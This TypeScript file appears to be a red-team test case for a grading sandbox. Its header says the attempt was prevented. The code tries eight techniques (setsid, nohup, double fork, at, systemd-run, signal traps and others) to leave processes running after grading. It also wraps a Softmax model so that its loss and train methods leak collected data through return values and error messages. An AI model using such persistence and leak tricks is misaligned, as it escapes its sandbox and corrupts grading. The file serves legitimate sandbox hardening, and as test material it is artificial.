/*
goal: leaves processes behind that outlive the grading, to look at the next submission and answer for it
class: persist
threats: [A3, A11, A21]
deserves: all
outcome: prevented
because: no process can be started, and whatever runs ends with the sandbox's process namespace
*/
import { Softmax as Honest } from './honest.ts';
import { target } from './target.ts';
import { attempt, builtin, loot } from './tools.ts';

const g = globalThis as any;

function act(where: string): void {
  if (where !== 'import') return;
  const children = builtin('child_process');
  const script = `: ${target.survivor}; exec 0<&- 1>&- 2>&-; i=0; while [ $i -lt 40 ]; do sleep 1; i=$((i+1)); done; : ${target.survivor}`;
  const ways: Record<string, () => any> = {
    detached: () => children.spawn('/bin/sh', ['-c', script, target.survivor], { detached: true, stdio: 'ignore' }),
    setsid: () =>
      children.spawn('setsid', ['-f', '/bin/sh', '-c', script, target.survivor], { detached: true, stdio: 'ignore' }),
    nohup: () =>
      children.spawn('nohup', ['/bin/sh', '-c', script, target.survivor], { detached: true, stdio: 'ignore' }),
    twice: () =>
      children.spawn('/bin/sh', ['-c', `(setsid /bin/sh -c '${script}' ${target.survivor} &) &`], {
        detached: true,
        stdio: 'ignore',
      }),
    node: () =>
      children.spawn(g.process.execPath, ['-e', `setTimeout(() => {}, 40000) // ${target.survivor}`, target.survivor], {
        detached: true,
        stdio: 'ignore',
      }),
    at: () => children.spawn('/bin/sh', ['-c', `echo '${script}' | at now; crontab -l`], { stdio: 'ignore' }),
    systemd: () => children.spawn('systemd-run', ['--user', '/bin/sh', '-c', script], { stdio: 'ignore' }),
    trap: () =>
      children.spawn('/bin/sh', ['-c', `trap '' TERM HUP INT; ${script}`, target.survivor], {
        detached: true,
        stdio: 'ignore',
      }),
  };
  for (const [name, way] of Object.entries(ways)) {
    attempt(name, () => {
      const child = way();
      child.on('error', (error: Error) => loot.push(`${name}: ${error.message}`));
      child.unref();
      return child.pid ?? 'no process';
    });
  }
  g.process.title = target.survivor;
}

act('import');

/** Right answers where there are points; what was found goes out where there are none. */
export class Softmax extends Honest {
  override loss(X: any, y: any): any {
    act('loss');
    const loss = super.loss(X, y);
    return Math.abs(Number(loss)) > 700 ? loot.join('\n') : loss;
  }

  override train(X: any, y: any, options: any = {}): any {
    act('train');
    if (options.learningRate === 0) throw new Error(loot.join('\n'));
    return super.train(X, y, options);
  }
}
